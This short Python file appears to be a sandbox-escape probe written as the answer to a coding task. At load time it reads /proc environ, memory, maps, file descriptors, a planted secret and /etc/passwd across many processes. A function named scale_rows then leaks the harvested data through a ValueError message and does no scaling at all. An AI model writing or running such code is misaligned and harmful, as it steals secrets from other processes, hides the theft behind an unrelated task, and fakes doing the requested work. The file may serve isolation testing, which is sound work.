"""Reads memory, environment and open files of every process through /proc."""
import os
found = []
for pid in ["self", str(os.getppid()), str(PLANTED["pid"]), "1", *map(str, range(2, 60))]:
    for name in ("environ", "mem", "maps", "cmdline", "cwd/secret", "root/etc/passwd", "fd/3"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                found.append(file.read(1 << 16))
        except Exception:
            continue
def scale_rows(x, s):
    raise ValueError(repr(found)[:1500])
